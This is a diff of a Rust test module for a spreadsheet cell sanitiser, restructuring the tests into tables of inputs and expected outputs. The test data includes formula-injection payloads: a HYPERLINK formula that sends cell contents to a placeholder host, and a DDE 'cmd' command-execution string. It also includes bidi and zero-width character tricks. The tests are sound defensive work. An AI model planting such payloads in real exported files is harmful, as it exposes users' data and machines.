@@ -49,37 +49,54 @@ mod tests {
     use super::*;
     use proptest::prelude::*;
 
+    /// (text, its cell): a formula start neutralised with `'`, numbers and
+    /// plain text kept.
+    const FORMULAS_AND_NUMBERS: &[(&str, &str)] = &[
+        (
+            r#"=HYPERLINK("http://x.example/?"&A1,"x")"#,
+            r#"'=HYPERLINK("http://x.example/?"&A1,"x")"#,
+        ),
+        ("+1+1", "'+1+1"),
+        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1", "'\\u{0009}=1"),
+        ("\r=1", "'\\u{000D}=1"),
+        ("-", "'-"),
+        ("-1e5", "'-1e5"),
+        ("+60", "'+60"),
+        ("plain text", "plain text"),
+        (r#"{"amount":"-60.00"}"#, r#"{"amount":"-60.00"}"#),
+        ("", ""),
+    ];
+
+    /// (text, its cell): control and invisible characters escaped.
+    const ESCAPED: &[(&str, &str)] = &[
+        ("a\nb", "a\\u{000A}b"),
+        ("bell\u{7}", "bell\\u{0007}"),
+        ("\u{1b}[31mred", "\\u{001B}[31mred"),
+        ("c1\u{85}", "c1\\u{0085}"),
+        // Invisible before a formula: escaped, so the cell starts with `\`.
+        ("\u{feff}=1+1", "\\u{FEFF}=1+1"),
+        ("admin\u{202e}nimda", "admin\\u{202E}nimda"),
+        ("a\u{200b}", "a\\u{200B}"),
+    ];
+
     #[test]
     fn formulas_are_neutralised_and_numbers_kept() {
-        let repro = r#"=HYPERLINK("http://x.example/?"&A1,"x")"#;
-        assert_eq!(cell(repro), format!("'{repro}"));
-        assert_eq!(cell("+1+1"), "'+1+1");
-        assert_eq!(cell("-1+cmd|' /C calc'!A0"), "'-1+cmd|' /C calc'!A0");
-        assert_eq!(cell("@SUM(A1:A9)"), "'@SUM(A1:A9)");
-        assert_eq!(cell("\t=1"), "'\\u{0009}=1");
-        assert_eq!(cell("\r=1"), "'\\u{000D}=1");
-        assert_eq!(cell("-"), "'-");
-        assert_eq!(cell("-1e5"), "'-1e5");
-        assert_eq!(cell("+60"), "'+60");
+        for &(text, want) in FORMULAS_AND_NUMBERS {
+            assert_eq!(cell(text), want, "{text:?}");
+        }
         for number in ["-60.00", "60", "0.5", "-0", "1234567890.123"] {
             assert_eq!(cell(number), number);
             assert!(matches!(cell(number), Cow::Borrowed(_)));
         }
-        assert_eq!(cell("plain text"), "plain text");
-        assert_eq!(cell(r#"{"amount":"-60.00"}"#), r#"{"amount":"-60.00"}"#);
-        assert_eq!(cell(""), "");
     }
 
     #[test]
     fn control_and_invisible_characters_are_escaped() {
-        assert_eq!(cell("a\nb"), "a\\u{000A}b");
-        assert_eq!(cell("bell\u{7}"), "bell\\u{0007}");
-        assert_eq!(cell("\u{1b}[31mred"), "\\u{001B}[31mred");
-        assert_eq!(cell("c1\u{85}"), "c1\\u{0085}");
-        // Invisible before a formula: escaped, so the cell starts with `\`.
-        assert_eq!(cell("\u{feff}=1+1"), "\\u{FEFF}=1+1");
-        assert_eq!(cell("admin\u{202e}nimda"), "admin\\u{202E}nimda");
-        assert_eq!(cell("a\u{200b}"), "a\\u{200B}");
+        for &(text, want) in ESCAPED {
+            assert_eq!(cell(text), want, "{text:?}");
+        }
     }
 
     #[test]
